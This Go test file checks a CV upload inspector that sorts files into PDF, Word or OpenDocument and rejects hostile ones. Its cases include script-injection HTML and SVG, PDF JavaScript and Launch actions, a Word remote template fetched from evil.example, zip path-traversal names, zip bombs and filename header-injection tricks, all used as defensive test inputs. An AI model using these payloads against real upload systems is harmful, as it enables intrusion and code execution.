package fair_test

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"runtime"
	"strings"
	"testing"
	"unicode/utf16"

	"salon/fair"
)

// zipped makes an archive of name, content, name, content; a name that begins
// with "=" is stored as it is.
func zipped(t testing.TB, pairs ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i := 0; i < len(pairs); i += 2 {
		name, stored := strings.CutPrefix(pairs[i], "=")
		h := &zip.FileHeader{Name: name, Method: zip.Deflate}
		if stored {
			h.Method = zip.Store
		}
		f, err := w.CreateHeader(h)
		if err == nil {
			_, err = f.Write([]byte(pairs[i+1]))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

const (
	wordTypes = `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
	odtType   = "application/vnd.oasis.opendocument.text"
	plainPDF  = "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction[2 0 R/Fit]/JSomething 1>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)

func docx(t testing.TB, more ...string) []byte {
	return zipped(t, append([]string{"[Content_Types].xml", wordTypes, "word/document.xml", "<w:document/>"}, more...)...)
}

func odt(t testing.TB, more ...string) []byte {
	return zipped(t, append([]string{"=mimetype", odtType, "content.xml", "<office:text/>"}, more...)...)
}

func TestACVIsToldByItsContent(t *testing.T) {
	locked := docx(t)
	locked[6] |= 1
	central := bytes.LastIndex(locked, []byte("PK\x01\x02"))
	locked[central+8] |= 1
	for name, c := range map[string]struct {
		content []byte
		want    fair.CVFormat
		code    string
	}{
		"a PDF":                             {[]byte(plainPDF), fair.PDF, ""},
		"a PDF with blanks behind it":       {[]byte(plainPDF + "\r\n\x00\x00"), fair.PDF, ""},
		"a Word document":                   {docx(t), fair.DOCX, ""},
		"one with a link in it":             {docx(t, "word/_rels/document.xml.rels", `<Relationship Type="http://x/hyperlink" Target="https://a.example" TargetMode="External"/>`), fair.DOCX, ""},
		"an OpenDocument text":              {odt(t), fair.ODT, ""},
		"nothing":                           {nil, "", "cv.format"},
		"HTML under the name of a PDF":      {[]byte("<!doctype html><script>alert(1)</script>"), "", "cv.format"},
		"SVG under the name of a PDF":       {[]byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), "", "cv.format"},
		"HTML inside the head of a PDF":     {[]byte("%PDF-1.4\n<HTML><script>alert(1)</script>\n%%EOF"), "", "cv.format"},
		"a PDF that is an archive as well":  {append([]byte(plainPDF), docx(t)...), "", "cv.format"},
		"an archive behind a short PDF":     {append([]byte(plainPDF), zipped(t, "a", "b")...), "", "cv.format"},
		"a PDF behind something else":       {[]byte("GIF89a" + plainPDF), "", "cv.format"},
		"half a PDF":                        {[]byte(plainPDF[:40]), "", "cv.damaged"},
		"a PDF with a script":               {[]byte(strings.Replace(plainPDF, "/OpenAction", "/AA<</S/JavaScript/JS(app.alert(1))>>/OpenAction", 1)), "", "cv.active"},
		"one that hides the word":           {[]byte(strings.Replace(plainPDF, "/OpenAction", "/S/J#61vaScript/OpenAction", 1)), "", "cv.active"},
		"one that starts a program":         {[]byte(strings.Replace(plainPDF, "/OpenAction", "/S /Launch/OpenAction", 1)), "", "cv.active"},
		"a script across two windows":       {[]byte("%PDF-1.4\n" + strings.Repeat(" ", 32<<10-15) + "/JavaScript \n%%EOF"), "", "cv.active"},
		"a Word document with macros":       {docx(t, "word/vbaProject.bin", "x"), "", "cv.active"},
		"a docm under the name of a docx":   {zipped(t, "[Content_Types].xml", strings.Replace(wordTypes, "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml", 1)), "", "cv.active"},
		"a template loaded from elsewhere":  {docx(t, "word/_rels/settings.xml.rels", `<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>`), "", "cv.active"},
		"one between single quotes":         {docx(t, "word/_rels/settings.xml.rels", `<Relationship Type='http://x/attachedTemplate' Target='https://evil.example/a.dotm' TargetMode = 'External'/>`), "", "cv.active"},
		"one that says two things":          {docx(t, "word/_rels/settings.xml.rels", `<Relationship xmlns:x="y" Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External" x:TargetMode="Internal"/>`), "", "cv.active"},
		"one whose letters are written out": {docx(t, "word/_rels/settings.xml.rels", `<Relationship Type="http://x/attached&#84;emplate" Target="https://evil.example/a.dotm" TargetMode="&#69;xternal"/>`), "", "cv.active"},
		"one in UTF-16":                     {docx(t, "word/_rels/settings.xml.rels", wide(`<?xml version="1.0" encoding="UTF-16"?><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>`)), "", "cv.damaged"},
		"an object under another name":      {docx(t, "word/embeddings/photo.bin", "x", "word/_rels/document.xml.rels", `<Relationship Type="http://x/oleObject" Target="embeddings/photo.bin"/>`), "", "cv.active"},
		"macros under another name":         {docx(t, "word/photo.bin", "x", "word/_rels/document.xml.rels", `<Relationship Type="http://x/vbaProject" Target="photo.bin"/>`), "", "cv.active"},
		"an ActiveX control":                {docx(t, "word/activeX/activeX1.xml", "x"), "", "cv.active"},
		"a packed object":                   {docx(t, "word/embeddings/oleObject3.bin", "x"), "", "cv.active"},
		"a program inside":                  {docx(t, "word/media/image1.exe", "x"), "", "cv.active"},
		"an archive inside":                 {docx(t, "word/embeddings/a.zip", string(zipped(t, "b", strings.Repeat("x", 1000)))), "", "cv.active"},
		"an OpenDocument text with macros":  {odt(t, "Basic/Standard/Module1.xml", "x"), "", "cv.active"},
		"a spreadsheet":                     {zipped(t, "=mimetype", "application/vnd.oasis.opendocument.spreadsheet"), "", "cv.format"},
		"any archive":                       {zipped(t, "cv.txt", "moi"), "", "cv.format"},
		"a name that leads out":             {docx(t, "../../etc/cron.d/x", "x"), "", "cv.damaged"},
		"a name that leads to the root":     {docx(t, "/etc/passwd", "x"), "", "cv.damaged"},
		"a name with a backslash":           {docx(t, `word\..\..\x`, "x"), "", "cv.damaged"},
		"a name with NUL":                   {docx(t, "word/a\x00.xml", "x"), "", "cv.damaged"},
		"one name twice":                    {docx(t, "Word/Document.xml", "x"), "", "cv.damaged"},
		"a bomb of one entry":               {docx(t, "word/media/image1.png", strings.Repeat("\x00", 101<<20)), "", "cv.damaged"},
		"a list of types that is a bomb":    {zipped(t, "[Content_Types].xml", strings.Repeat(" ", 20<<20)), "", "cv.damaged"},
		"something behind a Word document":  {append(docx(t), "<script>"...), "", "cv.damaged"},
		"something before a Word document":  {append([]byte("MZ"), docx(t)...), "", "cv.format"},
		"half a Word document":              {docx(t)[:200], "", "cv.damaged"},
		"a locked Word document":            {locked, "", "cv.locked"},
		"a Word document of before 2007":    {[]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 and more"), "", "cv.format"},
		"thousands of entries":              {zipped(t, many(2100)...), "", "cv.damaged"},
		"a type that is compressed":         {zipped(t, "mimetype", odtType, "content.xml", "x"), "", "cv.format"},
	} {
		t.Run(name, func(t *testing.T) {
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			got, err := fair.InspectCV(bytes.NewReader(c.content), int64(len(c.content)))
			runtime.ReadMemStats(&after)
			if grown := after.TotalAlloc - before.TotalAlloc; grown > 8<<20 {
				t.Errorf("%d bytes were taken for it", grown)
			}
			if c.code == "" {
				if err != nil || got != c.want {
					t.Fatalf("got %q, %v", got, err)
				}
				return
			}
			if !errors.Is(err, fair.E(fair.Invalid, c.code)) {
				t.Errorf("got %q, %v, want %s", got, err, c.code)
			}
		})
	}
}

// wide is a text in UTF-16, as a spreadsheet or a word processor may write it.
func wide(text string) string {
	out := []byte("\xff\xfe")
	for _, unit := range utf16.Encode([]rune(text)) {
		out = append(out, byte(unit), byte(unit>>8))
	}
	return string(out)
}

func many(n int) (pairs []string) {
	for i := range n {
		pairs = append(pairs, fmt.Sprint("word/", i, ".xml"), "x")
	}
	return pairs
}

// FuzzInspectCV looks for a panic, and for a document that is taken though it
// holds the plain name of a macro project.
func FuzzInspectCV(f *testing.F) {
	for _, seed := range [][]byte{[]byte(plainPDF), docx(f), odt(f), docx(f, "word/vbaProject.bin", "x")} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, content []byte) {
		got, err := fair.InspectCV(bytes.NewReader(content), int64(len(content)))
		if err == nil && got.Type() == "application/octet-stream" {
			t.Errorf("taken as %q", got)
		}
		if err == nil && got != fair.PDF && bytes.Contains(content, []byte("word/vbaProject.bin")) {
			t.Error("a macro project was taken")
		}
	})
}

func TestANameIsFitForAScreenAndAHeader(t *testing.T) {
	for name, want := range map[string]string{
		"CV Camille.pdf": "CV Camille.pdf", `C:\Users\c\cv.pdf`: "cv.pdf", "../../etc/passwd": "passwd", "..": "CV", "": "CV", "a\x00b.pdf": "ab.pdf",
		"cv.pdf\r\nSet-Cookie: a=b": "cv.pdf Set-Cookie a=b", `"><script>.pdf`: "script.pdf", "cv\u202efdp.exe": "cvfdp.exe", "  .. . ": "CV",
		strings.Repeat("é", 300): strings.Repeat("é", 120), "cv\xff.pdf": "cv.pdf",
	} {
		if got := fair.CVName(name); got != want {
			t.Errorf("%q became %q, want %q", name, got, want)
		}
	}
}
